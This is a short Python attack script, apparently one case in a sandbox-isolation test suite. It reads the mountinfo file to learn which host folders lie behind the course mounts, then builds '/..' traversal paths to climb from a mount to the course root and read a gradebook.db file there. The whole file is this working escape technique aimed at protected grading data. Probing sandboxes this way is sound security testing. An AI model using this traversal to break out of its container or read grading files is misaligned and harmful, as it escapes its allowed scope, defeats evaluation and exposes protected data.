"""mountinfo names the host folder behind each mount: climb from a mount of the course to its root."""
from prelude import TARGETS, attack, first


def read_gradebook_via_mount_sources():
    course, paths = TARGETS["course"], []
    for line in open(TARGETS["mountinfo"]):
        source, target = line.split()[3:5]
        if source.startswith(course):
            paths.append(target + "/.." * source[len(course):].count("/") + "/gradebook.db")
    return first(paths, lambda path: open(path, "rb").read(16))


attack(read_gradebook_via_mount_sources)
